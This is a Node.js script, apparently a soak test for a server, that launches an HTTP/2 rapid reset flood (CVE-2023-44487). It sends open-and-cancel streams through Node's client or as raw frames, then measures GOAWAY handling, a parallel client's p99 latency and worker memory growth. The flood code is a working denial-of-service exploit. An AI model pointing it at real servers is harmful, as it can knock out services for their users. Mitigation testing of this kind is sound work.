#!/usr/bin/env node
// HTTP/2 rapid reset (CVE-2023-44487) against a server: open a stream and
// reset it at once, at a given rate, until the server ends the session or the
// time is up. h2load cannot do this; Node's http2 client can.
//
//   node scripts/soak/h2-rapid-reset.mjs https://127.0.0.1:8443 [--rate 10000] [--seconds 30] [--master PID] [--raw]
//
// --raw writes the frames itself (HEADERS then RST_STREAM), for a Node whose
// client sends nothing for a stream closed at once (Node 22's).
//
// It also measures a parallel well-behaved client's latency (p99 before and
// during the flood, from a process of its own), and with --master the
// workers' RSS growth, which are what the flood must not move much.
import { spawn } from 'node:child_process';
import { readFileSync, readdirSync } from 'node:fs';
import http2 from 'node:http2';
import tls from 'node:tls';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

/**
 * Floods `url` with open-and-reset streams at `rate` per second for at most
 * `seconds`. Resolves with what happened: whether the server ended the
 * session (a GOAWAY or the connection closed), after how long, and how many
 * streams were opened.
 */
export function rapidReset({ url, rate = 10_000, seconds = 30 }) {
  return new Promise((resolve) => {
    const session = http2.connect(url, { rejectUnauthorized: false });
    const started = performance.now();
    let opened = 0;
    let goaway = null;
    let timer = null;
    const finish = (ended) => {
      clearInterval(timer);
      if (!session.destroyed) session.destroy();
      resolve({ ended, goaway, opened, afterMs: Math.round(performance.now() - started) });
    };
    session.on('error', () => {});
    session.on('goaway', (code) => (goaway ??= code));
    session.on('close', () => finish(true));
    const limit = setTimeout(() => finish(false), seconds * 1000);
    limit.unref();
    // a batch every 10 ms: timers cannot fire 10,000 times a second
    const perTick = Math.max(1, Math.round(rate / 100));
    session.on('connect', () => {
      timer = setInterval(() => {
        for (let i = 0; i < perTick && !session.destroyed && !session.closed; i++) {
          try {
            const stream = session.request({ ':path': '/' });
            stream.on('error', () => {});
            stream.close(http2.constants.NGHTTP2_CANCEL);
            opened++;
          } catch {
            return;
          }
        }
      }, 10);
    });
  });
}

const frame = (type, flags, id, payload) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(id, 5);
  return Buffer.concat([head, payload]);
};
// HEADERS (END_HEADERS, the stream left open, as browsers' requests with a body) of GET https / in HPACK's static table
// and :authority as a literal (nghttp2 refuses a request without it as an invalid frame), then RST_STREAM CANCEL
const get = (authority) =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, authority.length]), Buffer.from(authority)]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

/**
 * The same flood in raw frames over TLS, at any rate, whatever the local
 * Node's client does with a stream closed before it is sent (Node 22's
 * sends nothing). Resolves as rapidReset() does.
 */
export function rawRapidReset({ url, rate = 10_000, seconds = 30 }) {
  const { hostname, port, host } = new URL(url);
  const GET = get(host);
  return new Promise((resolve) => {
    const started = performance.now();
    let [opened, id, goaway, timer, got] = [0, 1, null, null, Buffer.alloc(0)];
    const socket = tls.connect({
      host: hostname,
      port: Number(port),
      ALPNProtocols: ['h2'],
      rejectUnauthorized: false,
    });
    const finish = (ended) => {
      clearInterval(timer);
      clearTimeout(limit);
      socket.destroy();
      resolve({ ended, goaway, opened, afterMs: Math.round(performance.now() - started) });
    };
    const limit = setTimeout(() => finish(false), seconds * 1000);
    socket.on('error', () => {});
    socket.on('close', () => finish(true));
    socket.on('data', (chunk) => {
      got = Buffer.concat([got, chunk]);
      for (let at = 0; at + 9 <= got.length; at += 9 + got.readUIntBE(at, 3))
        if (got[at + 3] === 7 && at + 17 <= got.length) goaway ??= got.readUInt32BE(at + 13);
      got = got.subarray(Math.max(0, got.length - 64 * 1024));
    });
    socket.on('secureConnect', () => {
      socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]));
      const perTick = Math.max(1, Math.round(rate / 100));
      timer = setInterval(() => {
        const frames = [];
        for (let i = 0; i < perTick; i++, id += 2, opened++) frames.push(frame(1, 4, id, GET), frame(3, 0, id, CANCEL));
        if (!socket.destroyed) socket.write(Buffer.concat(frames));
      }, 10);
    });
  });
}

/** A well-behaved client: one request at a time on its own session; resolves with the latencies, in ms. */
export function steadyClient(url, path, stop) {
  return new Promise((resolve) => {
    const session = http2.connect(url, { rejectUnauthorized: false });
    const latencies = [];
    let failed = 0;
    session.on('error', () => {});
    const next = () => {
      if (stop.done || session.destroyed) {
        session.close();
        resolve({ latencies, failed });
        return;
      }
      const t0 = performance.now();
      const s = session.request({ ':path': path });
      s.on('data', () => {});
      s.on('end', () => {
        latencies.push(performance.now() - t0);
        setTimeout(next, 5);
      });
      s.on('error', () => {
        failed++;
        setTimeout(next, 5);
      });
      s.end();
    };
    next();
  });
}

export const p99 = (values) => {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted[Math.min(sorted.length - 1, Math.floor(sorted.length * 0.99))] ?? 0;
};

function rssKiB(pid) {
  try {
    return Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);
  } catch {
    return 0;
  }
}

function childrenOf(pid) {
  const out = [];
  for (const d of readdirSync('/proc')) {
    if (!/^\d+$/.test(d)) continue;
    try {
      const stat = readFileSync(`/proc/${d}/stat`, 'utf8');
      if (Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) === pid) out.push(Number(d));
    } catch {}
  }
  return out;
}

const workersRss = (master) => childrenOf(master).reduce((sum, pid) => sum + rssKiB(pid), 0);

/**
 * The well-behaved client in a process of its own for `ms`: in the flooding
 * process its latencies would measure the flood's own event loop.
 */
function steadyProcess(url, ms) {
  const child = spawn(process.execPath, [fileURLToPath(import.meta.url), url, '--steady-ms', String(ms)], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  let out = '';
  child.stdout.on('data', (d) => (out += d));
  return new Promise((resolve) => child.on('close', () => resolve(JSON.parse(out))));
}

async function steadyFor(url, ms) {
  const stop = { done: false };
  const served = steadyClient(url, '/', stop);
  await new Promise((r) => setTimeout(r, ms));
  stop.done = true;
  console.log(JSON.stringify(await served));
}

async function main() {
  const { values, positionals } = parseArgs({
    allowPositionals: true,
    options: {
      rate: { type: 'string' },
      seconds: { type: 'string' },
      master: { type: 'string' },
      raw: { type: 'boolean', default: false },
      'steady-ms': { type: 'string' },
    },
  });
  const url = positionals[0] ?? 'https://127.0.0.1:8443';
  if (values['steady-ms']) return steadyFor(url, Number(values['steady-ms']));
  const rate = Number(values.rate ?? 10_000);
  const seconds = Number(values.seconds ?? 30);
  const master = values.master ? Number(values.master) : null;
  const b = await steadyProcess(url, 3000);
  const before = master ? workersRss(master) : 0;
  let peak = before;
  const sampler = setInterval(() => (peak = Math.max(peak, master ? workersRss(master) : 0)), 100);
  const during = steadyProcess(url, seconds * 1000);
  // the flood is repeated for the whole time: each session the server ends is replaced
  const floods = [];
  const until = performance.now() + seconds * 1000;
  while (performance.now() < until) {
    const flood = values.raw ? rawRapidReset : rapidReset;
    floods.push(await flood({ url, rate, seconds: (until - performance.now()) / 1000 }));
  }
  const d = await during;
  clearInterval(sampler);
  const goaways = {};
  for (const f of floods) goaways[f.goaway ?? 'none'] = (goaways[f.goaway ?? 'none'] ?? 0) + 1;
  console.log(
    JSON.stringify({
      sessions: floods.length,
      endedByServer: floods.filter((f) => f.ended).length,
      goawayCodes: goaways,
      medianSessionMs: floods.map((f) => f.afterMs).sort((x, y) => x - y)[floods.length >> 1],
      streamsOpened: floods.reduce((n, f) => n + f.opened, 0),
      baselineP99Ms: Number(p99(b.latencies).toFixed(2)),
      duringP99Ms: Number(p99(d.latencies).toFixed(2)),
      parallelFailed: d.failed,
      parallelServed: d.latencies.length,
      workersRssGrowthMiB: master ? Number(((peak - before) / 1024).toFixed(1)) : null,
    }),
  );
}

if (import.meta.url === `file://${process.argv[1]}`) await main();
